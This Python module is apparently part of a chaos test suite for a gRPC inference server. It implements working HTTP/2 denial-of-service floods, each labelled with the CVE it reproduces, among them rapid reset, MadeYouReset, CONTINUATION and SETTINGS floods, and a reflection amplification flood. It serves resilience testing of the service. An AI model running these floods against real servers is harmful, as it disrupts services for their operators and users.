"""Floods of small HTTP/2 frames: each costs the attacker a few bytes, and the server a piece of work."""

import itertools
import struct
import time
from collections.abc import Iterator
from contextlib import suppress
from functools import partial

from tests.chaos.attack import Target, attack
from tests.chaos.http2 import (
    CLASSIFY_STREAM,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    MAX_FRAME_BYTES,
    MAX_WINDOW_BYTES,
    OPENING,
    PING,
    PRIORITY,
    REFLECTION,
    RST_STREAM,
    SERVER_METADATA,
    SETTINGS,
    again,
    call_block,
    call_head,
    frame,
    framed,
    literal,
    new_streams,
    on_streams,
    window_setting,
    window_update,
)
from tests.chaos.sending import flood

_CANCEL = (8).to_bytes(4, "big")
_ONE_STREAM = [1]
_UNKNOWN_TYPE = 0xBE
_MANY_CONNECTIONS = 32
_WAITING_CONNECTIONS, _TOGGLES, _TOGGLE_S = 10, 95, 0.02
_STREAMS, _MESSAGES_OF_A_FRAME = 500, 16
# ServerReflectionRequest.file_containing_symbol
_SYMBOL = b"inference.GRPCInferenceService"
_FILE_OF_SERVICE = b"\x22" + bytes((len(_SYMBOL),)) + _SYMBOL


def _resets(target: Target) -> bytes:
    return call_head(target) + frame(RST_STREAM, 0, 1, _CANCEL)


@attack("resets", does="opens calls and resets each at once", stands_for="CVE-2023-44487, rapid reset")
def resets(target: Target) -> None:
    """HEADERS and RST_STREAM on every stream."""
    flood(target, partial(new_streams, _resets(target)))


@attack("resets-32-connections", does="the same on 32 connections", stands_for="CVE-2023-44487, rapid reset")
def resets_on_many_connections(target: Target) -> None:
    """Limits of one connection do not add up to a limit."""
    flood(target, partial(new_streams, _resets(target)), connections=_MANY_CONNECTIONS)


@attack(
    "window-update-0",
    does="opens calls, and makes the server reset each by a WINDOW_UPDATE of 0",
    stands_for="CVE-2025-8671, MadeYouReset",
)
def made_resets_by_zero(target: Target) -> None:
    """RFC 9113, section 6.9: an increment of 0 is a stream error."""
    flood(target, partial(new_streams, call_head(target) + window_update(1, 0)))


@attack(
    "window-overflow",
    does="opens calls, and makes the server reset each by a window above 2^31-1",
    stands_for="CVE-2025-8671, MadeYouReset",
)
def made_resets_by_overflow(target: Target) -> None:
    """RFC 9113, section 6.9.1."""
    flood(target, partial(new_streams, call_head(target) + window_update(1, MAX_WINDOW_BYTES)))


@attack(
    "data-after-end",
    does="makes calls, and sends DATA after their END_STREAM",
    stands_for="CVE-2025-8671, MadeYouReset",
)
def made_resets_by_data(target: Target) -> None:
    """RFC 9113, section 5.1: half-closed (remote)."""
    frames = call_head(target, ends=True) + frame(DATA, 0, 1, b"x")
    flood(target, partial(new_streams, frames))


@attack(
    "bad-priority",
    does="opens calls, and makes the server reset each by a PRIORITY frame of 4 bytes",
    stands_for="CVE-2025-8671, MadeYouReset",
)
def made_resets_by_priority(target: Target) -> None:
    """RFC 9113, section 6.3: a length other than 5 is a stream error."""
    flood(target, partial(new_streams, call_head(target) + frame(PRIORITY, 0, 1, bytes(4))))


@attack(
    "malformed-heads",
    does="opens calls with a field name in upper case",
    stands_for="CVE-2025-8671, MadeYouReset; RFC 9113, section 8.2.1",
)
def malformed_heads(target: Target) -> None:
    """Each head is decoded, checked and refused."""
    block = call_block(target) + literal(b"Upper", b"x")
    flood(target, partial(new_streams, frame(HEADERS, END_HEADERS, 1, block)))


@attack(
    "streams-that-stay-open",
    does="opens calls and never ends them, also above MAX_CONCURRENT_STREAMS",
    stands_for="RFC 9113, section 5.1.2",
)
def open_streams(target: Target) -> None:
    """Most are refused; the others wait for a body."""
    flood(target, partial(new_streams, call_head(target)))


@attack(
    "calls-without-token",
    does="makes small whole calls without a token",
    stands_for="work before authorisation",
)
def calls_without_token(target: Target) -> None:
    """Refused calls are cheap for the client, and should be for the server."""
    target.token = ""
    frames = call_head(target) + frame(DATA, END_STREAM, 1, framed(b""))
    flood(target, partial(new_streams, frames))


@attack(
    "empty-continuations",
    does="sends a header block of empty CONTINUATION frames that never ends",
    stands_for="CVE-2024-27316, CONTINUATION flood",
)
def empty_continuations(target: Target) -> None:
    """Frames without a byte are not stopped by a limit in bytes."""
    head = OPENING + frame(HEADERS, 0, 1, call_block(target))
    flood(target, partial(again, frame(CONTINUATION, 0, 1), opening=head))


@attack(
    "full-continuations",
    does="sends a header block of full CONTINUATION frames that never ends",
    stands_for="CVE-2024-27316, CONTINUATION flood",
)
def full_continuations(target: Target) -> None:
    """A block that is joined before it is decoded fills memory."""
    head = OPENING + frame(HEADERS, 0, 1, call_block(target))
    part = frame(CONTINUATION, 0, 1, bytes(MAX_FRAME_BYTES))
    flood(target, partial(again, part, opening=head))


@attack("settings", does="sends empty SETTINGS frames", stands_for="CVE-2019-9515, SETTINGS flood")
def settings_flood(target: Target) -> None:
    """Each must be acknowledged."""
    flood(target, partial(again, frame(SETTINGS, 0, 0)))


@attack(
    "settings-unread",
    does="sends empty SETTINGS frames, and reads nothing",
    stands_for="CVE-2019-9515, SETTINGS flood",
)
def settings_unread(target: Target) -> None:
    """Acknowledgements queue up in the server."""
    flood(target, partial(again, frame(SETTINGS, 0, 0)), reads=False)


@attack(
    "window-settings",
    does="changes the initial window again and again while 1,000 streams are open",
    stands_for="CVE-2019-9511; RFC 9113, section 6.9.2",
)
def window_settings(target: Target) -> None:
    """Each change is applied to all open streams."""
    opening = OPENING + on_streams(call_head(target), range(1, 2000, 2))
    flood(target, partial(again, window_setting(100) + window_setting(101), opening=opening))


@attack(
    "window-settings-waiting",
    does="lets 1,000 answers wait on each of 10 connections, and opens all windows byte by byte",
    stands_for="CVE-2019-9511; RFC 9113, section 6.9.2",
)
def window_settings_waiting(target: Target) -> None:
    """A frame of 15 bytes lets each of them go on by a byte; as many as the rate of SETTINGS allows."""
    call = call_head(target, SERVER_METADATA) + frame(DATA, END_STREAM, 1, framed(b""))
    opening = OPENING + window_setting(0) + on_streams(call, range(1, 2000, 2))
    while True:
        with suppress(OSError):
            connections = [target.connect() for _ in range(_WAITING_CONNECTIONS)]
            for each in connections:
                each.sendall(opening)
            for number in range(_TOGGLES):
                time.sleep(_TOGGLE_S)
                for each in connections:
                    each.sendall(window_setting(number + 1))
                    target.sent_bytes += len(opening) // _TOGGLES
            for each in connections:
                each.close()


@attack("pings", does="sends PING frames", stands_for="CVE-2019-9512, ping flood")
def pings(target: Target) -> None:
    """Each must be answered."""
    flood(target, partial(again, frame(PING, 0, 0, bytes(8))))


@attack(
    "empty-data",
    does="sends DATA frames without a byte on one stream",
    stands_for="CVE-2019-9518, empty frames flood",
)
def empty_data(target: Target) -> None:
    """Windows do not limit frames without a byte."""
    flood(target, partial(again, frame(DATA, 0, 1), opening=OPENING + call_head(target)))


@attack(
    "window-updates",
    does="sends WINDOW_UPDATE frames of 1 byte for the connection and a stream",
    stands_for="RFC 9113, section 10.5",
)
def window_updates(target: Target) -> None:
    """From windows of 0, so that they never overflow within an attack."""
    opening = OPENING + window_setting(0) + call_head(target)
    flood(target, partial(again, window_update(0, 1) + window_update(1, 1), opening=opening))


@attack(
    "priorities",
    does="sends PRIORITY frames that reorder a tree of streams",
    stands_for="CVE-2019-9513, resource loop",
)
def priorities(target: Target) -> None:
    """For streams that are idle, each time on another parent."""
    weight = 16

    def chunks() -> Iterator[bytes]:
        for parent in range(1, 2000, 2):
            on_parent = frame(PRIORITY, 0, 1, struct.pack(">IB", parent, weight))
            yield on_streams(on_parent, [each for each in range(1, 2000, 2) if each != parent])

    def for_ever() -> Iterator[bytes]:
        yield OPENING
        while True:
            yield from chunks()

    flood(target, for_ever)


@attack("unknown-frames", does="sends empty frames of an unknown type", stands_for="RFC 9113, section 5.5")
def unknown_frames(target: Target) -> None:
    """They are ignored, which also takes time."""
    flood(target, partial(again, frame(_UNKNOWN_TYPE, 0, 0)))


def _stream_messages(target: Target, path: bytes, message: bytes) -> Iterator[bytes]:
    numbers = range(1, 2 * _STREAMS, 2)
    yield OPENING + window_setting(MAX_WINDOW_BYTES) + window_update(0, MAX_WINDOW_BYTES - 2**16)
    yield on_streams(call_head(target, path), numbers)
    messages = on_streams(frame(DATA, 0, 1, framed(message) * _MESSAGES_OF_A_FRAME), numbers)
    yield from itertools.repeat(messages)


@attack(
    "stream-messages",
    does="sends frames of 16 empty messages on each of 500 streams",
    stands_for="CWE-770; work that no frame shows",
)
def stream_messages(target: Target) -> None:
    """Seven bytes a message; each is answered with an error."""
    flood(target, partial(_stream_messages, target, CLASSIFY_STREAM, b""))


@attack(
    "stream-messages-unread",
    does="the same, and reads none of the answers",
    stands_for="CWE-770; work that no frame shows",
)
def unread_stream_messages(target: Target) -> None:
    """Up to the windows of the streams."""
    flood(target, partial(_stream_messages, target, CLASSIFY_STREAM, b""), reads=False)


@attack(
    "reflection",
    does="asks for the largest file of reflection, 16 times a frame on each of 500 streams",
    stands_for="CWE-405, asymmetric resource consumption",
)
def reflection(target: Target) -> None:
    """40 bytes for an answer of kilobytes."""
    flood(target, partial(_stream_messages, target, REFLECTION, _FILE_OF_SERVICE))
